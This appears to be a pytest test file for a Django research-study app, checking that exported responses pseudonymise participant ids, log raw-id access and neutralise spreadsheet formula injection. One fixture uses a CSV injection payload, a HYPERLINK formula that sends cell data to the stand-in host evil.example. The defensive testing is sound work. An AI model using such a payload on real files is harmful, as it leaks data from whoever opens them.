"""The responses export: participants as keyed pseudonyms (re-keyed by a release salt), raw ids only on request and
logged; the CSV is safe to open in a spreadsheet (OWASP CSV injection), JSONL keeps the raw values."""
from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from annotation.services.exports import decisions_serialize, responses_export, responses_serialize
from core.errors import ApplicationError
from core.models import PersonalDataAccess
from core.pseudonyms import is_pseudonym, pseudonym
from tests import factories as f

pytestmark = pytest.mark.django_db


def test_formula_cells_are_neutralized_in_csv_only():
    study, _ = f.annotated_study(answers=[["S2-S1", "S1-S2"]])
    evil = study.participants.order_by("pk").first()
    evil.external_id = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    evil.save()
    other = study.participants.order_by("pk").last()
    other.external_id = "@SUM(1+1)"
    other.save()
    rows = list(csv.DictReader(io.StringIO("".join(responses_serialize(study=study, fmt="csv", raw_ids=True)))))
    ids = {row["participant"] for row in rows}
    assert ids == {"'" + evil.external_id, "'@SUM(1+1)"}
    assert {row["answer"] for row in rows} == {"S2-S1", "S1-S2"}  # ordinary cells untouched
    raw = [json.loads(line) for line in "".join(responses_serialize(study=study, fmt="jsonl",
                                                                    raw_ids=True)).splitlines()]
    assert {row["participant"] for row in raw} == {evil.external_id, "@SUM(1+1)"}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("ok", "ok"), (-2.5, -2.5), (3, 3), ("", ""),
])
def test_owasp_rule(value, expected):
    from core.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe(value) == expected


DISTINCT_IDS = ["PROLIFICzz91Qx7Kq", "A3MTURKWORKERQ7Z", "anon-7f2c9e1d"]


def distinctive_study():
    """A study whose participants have ids no other string in an export could contain by chance."""
    study, _ = f.annotated_study(answers=[["S2-S1", "S1-S2", "S2-S1"], ["S1-S2", "S1-S2", "S2-S1"]])
    people = list(study.participants.order_by("pk"))
    for person, raw, platform in zip(people, DISTINCT_IDS, ("prolific", "mturk", "anonymous"), strict=True):
        person.external_id, person.platform = raw, platform
        person.save()
    return study, people


def assert_no_raw_id(text: str) -> None:
    for raw in DISTINCT_IDS:
        assert raw not in text


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_every_format_carries_pseudonyms_by_default(fmt, tmp_path):
    study, people = distinctive_study()
    out = tmp_path / f"responses.{fmt}"
    summary = responses_export(slug=study.slug, fmt=fmt, out=out)
    text = out.read_text(encoding="utf-8")
    assert_no_raw_id(text)
    rows = (list(csv.DictReader(io.StringIO(text))) if fmt == "csv"
            else [json.loads(line) for line in text.splitlines()])
    assert len(rows) == 6 and summary["participant_ids"] == "pseudonyms"
    expected = {pseudonym(platform=p.platform, external_id=p.external_id) for p in people}
    assert {row["participant"] for row in rows} == expected
    assert all(is_pseudonym(row["participant"]) for row in rows)
    assert not PersonalDataAccess.objects.exists()  # pseudonyms are not personal data seen


def test_same_id_same_pseudonym_within_a_release_and_another_across_salts():
    study, people = distinctive_study()

    def mapping(salt: str) -> dict[str, set[str]]:
        rows = [json.loads(line) for line in "".join(responses_serialize(study=study, fmt="jsonl",
                                                                         salt=salt)).splitlines()]
        raw = [json.loads(line) for line in "".join(responses_serialize(study=study, fmt="jsonl",
                                                                        raw_ids=True)).splitlines()]
        out: dict[str, set[str]] = {}
        for row, raw_row in zip(rows, raw, strict=True):
            out.setdefault(raw_row["participant"], set()).add(row["participant"])
        return out

    plain, first, again, other = mapping(""), mapping("release-1"), mapping("release-1"), mapping("release-2")
    for raw in DISTINCT_IDS:
        assert len(plain[raw]) == len(first[raw]) == 1  # one person, one pseudonym within a release
        assert first[raw] == again[raw]
        assert first[raw] != other[raw] and first[raw] != plain[raw]
    assert len({next(iter(v)) for v in first.values()}) == 3


def test_the_command_writes_pseudonyms_and_logs_raw_ids(tmp_path):
    study, _ = distinctive_study()
    out = tmp_path / "r.csv"
    stdout = io.StringIO()
    call_command("export_responses", "--study", study.slug, "--out", str(out), "--salt", "s1", stdout=stdout)
    summary = json.loads(stdout.getvalue().strip().splitlines()[-1])
    assert summary["participant_ids"] == "pseudonyms" and summary["salted"] is True
    assert_no_raw_id(out.read_text())
    assert not PersonalDataAccess.objects.exists()
    stdout = io.StringIO()
    call_command("export_responses", "--study", study.slug, "--out", str(out), "--raw-ids", stdout=stdout)
    assert json.loads(stdout.getvalue().strip().splitlines()[-1])["participant_ids"] == "raw"
    assert all(raw in out.read_text() for raw in DISTINCT_IDS)
    log = PersonalDataAccess.objects.get()
    assert (log.door, log.people, log.study_slug) == ("cli", 3, study.slug)
    assert "raw platform ids" in log.what


def test_raw_ids_by_a_person_need_the_permission(tmp_path, django_user_model):
    study, _ = distinctive_study()
    plain = django_user_model.objects.create_user("researcher", password="pw")
    with pytest.raises(ApplicationError) as refused:
        responses_export(slug=study.slug, fmt="csv", out=tmp_path / "x.csv", raw_ids=True, user=plain, door="api")
    assert refused.value.status == 403 and refused.value.code == "permission_denied"
    assert not (tmp_path / "x.csv").exists() and not PersonalDataAccess.objects.exists()


def test_the_decisions_csv_keeps_raw_ids_and_logs_the_door():
    study, _ = distinctive_study()
    text = decisions_serialize(study=study, fmt="prolific", door="cli")
    assert "PROLIFICzz91Qx7Kq" in text  # the platform's bulk page matches workers by their ids
    log = PersonalDataAccess.objects.get()
    assert log.door == "cli" and log.people == 3 and "decisions" in log.what
    decisions_serialize(study=study, fmt="prolific")  # no door named: an internal caller, nothing logged
    assert PersonalDataAccess.objects.count() == 1
